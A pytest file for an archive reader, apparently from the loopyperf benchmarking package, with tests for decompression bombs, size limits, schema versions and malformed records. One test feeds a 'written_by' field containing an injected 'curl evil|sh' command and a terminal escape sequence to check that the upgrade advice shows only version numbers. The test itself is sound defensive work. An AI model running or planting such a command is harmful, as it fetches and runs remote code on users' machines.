"""Tests that decompression bombs and invalid records in archives are rejected early."""

import gzip
import lzma
import random
import re
import tracemalloc
from collections.abc import Callable
from datetime import UTC, datetime
from itertools import count
from math import inf
from pathlib import Path

import msgspec
import pytest

from loopyperf.errors import ArchiveError
from loopyperf.measurement import archive as archive_module
from loopyperf.measurement.archive import Archive, Recording, read_archive
from loopyperf.measurement.records import Measurement, encode

from .synthetic import run

FIRST = run()
FULL = Path("/dev/full")
MEASURED = Measurement(
    run=FIRST.id,
    kernel_class="transpose",
    label="tile",
    sizes={"n": 16},
    kind="measurement",
    samples=(1e-3, 2e-3),
    taken=datetime.now(UTC),
)


@pytest.fixture
def path(tmp_path: Path) -> Path:
    """An archive of two measurements."""
    path = tmp_path / "samples.jsonl"
    path.write_bytes(b"".join(map(encode, (FIRST, MEASURED, MEASURED))))
    return path


@pytest.mark.parametrize("compress", [gzip.compress, lzma.compress])
def test_decompression_bomb_is_rejected_before_it_is_unpacked(
    path: Path, compress: Callable[[bytes], bytes], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(archive_module, "MAX_ARCHIVE_BYTES", 2**21)
    lines = compress(b"".join(encode(each) for each in (FIRST, *[MEASURED] * 20_000)))
    endless = compress(bytes(20 * 2**20))
    assert len(lines) + len(endless) < 2**18
    for bomb in (lines, endless):
        path.write_bytes(bomb)
        tracemalloc.start()
        with pytest.raises(ArchiveError, match=r"cannot read .*: more than 2,097,152 bytes after decompression"):
            read_archive(path)
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        assert peak < 2**26


def test_nothing_is_written_that_cannot_be_read_again(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(archive_module, "MAX_ARCHIVE_BYTES", 2**12)
    with Archive(tmp_path / "new.jsonl", FIRST) as archive:
        longer = (msgspec.structs.replace(MEASURED, samples=(1e-3,) * 2 * at, attempt=at) for at in count(1))
        with pytest.raises(ArchiveError, match=r"would be too large to read: .*; use another path"):
            any(map(archive.append, longer))
        written = len(archive.measurements)
        assert written > 0
    assert len(read_archive(tmp_path / "new.jsonl").measurements) == written


def test_standing_repeat_is_the_latest_with_the_fastest_reference_kernel() -> None:
    rng = random.Random(0)
    for _ in range(50):
        taken = [
            msgspec.structs.replace(MEASURED, attempt=place + 1, yardstick=rng.choice((None, 1.0, 2.0, 3.0)))
            for place in range(rng.randrange(1, 8))
        ]
        fastest = min(inf if each.yardstick is None else each.yardstick for each in taken)
        latest = [each for each in taken if (inf if each.yardstick is None else each.yardstick) == fastest][-1]
        assert Recording((), tuple(taken)).completed == {MEASURED.key: latest}


def test_an_earlier_schema_is_rejected(path: Path) -> None:
    path.write_bytes(path.read_bytes().replace(b'"schema":3', b'"schema":2'))
    with pytest.raises(ArchiveError, match=r"line 1: .*schema 2 was never released"):
        read_archive(path)


def test_advice_for_a_later_schema_contains_only_version_numbers(path: Path) -> None:
    for writer, advised in (
        ("2.1.0", "'loopyperf>=2.1.0'"),
        ("1'; curl evil|sh; '\x1b]0;x\x07", "--upgrade loopyperf"),
    ):
        document = msgspec.json.decode(encode(FIRST)) | {"schema": 99, "written_by": writer}
        path.write_bytes(msgspec.json.encode(document) + b"\n")
        with pytest.raises(ArchiveError, match=f"upgrade: pip install {re.escape(advised)}$"):
            read_archive(path)


def test_concatenated_compressed_archives_are_read_as_one(path: Path) -> None:
    whole = path.read_bytes()
    half = whole.index(b"\n", len(whole) // 2) + 1
    for compress in (gzip.compress, lzma.compress):
        path.with_suffix(".packed").write_bytes(compress(whole[:half]) + compress(whole[half:]))
        assert read_archive(path) == read_archive(path.with_suffix(".packed"))


def test_a_run_that_is_recorded_twice_is_refused(path: Path) -> None:
    path.write_bytes(encode(FIRST) * 2)
    with pytest.raises(ArchiveError, match=r"line 2: run .* appears twice"):
        read_archive(path)


def test_error_names_the_line_of_an_invalid_record(path: Path) -> None:
    for record in (b'{"record":"measurement","x":' + b"[" * 3000 + b"]" * 3000 + b"}", b'{"record":"\xff"}', b"[]"):
        path.write_bytes(encode(FIRST) + record + b"\n")
        with pytest.raises(ArchiveError, match=r"line 2: not a record of a measurement archive"):
            read_archive(path)


@pytest.mark.skipif(not FULL.exists(), reason="there is no device that is full")
def test_full_disk_raises_an_archive_error() -> None:
    with pytest.raises(ArchiveError, match=r"cannot (write|lock|read|open) /dev/full"):
        Archive(FULL, FIRST)
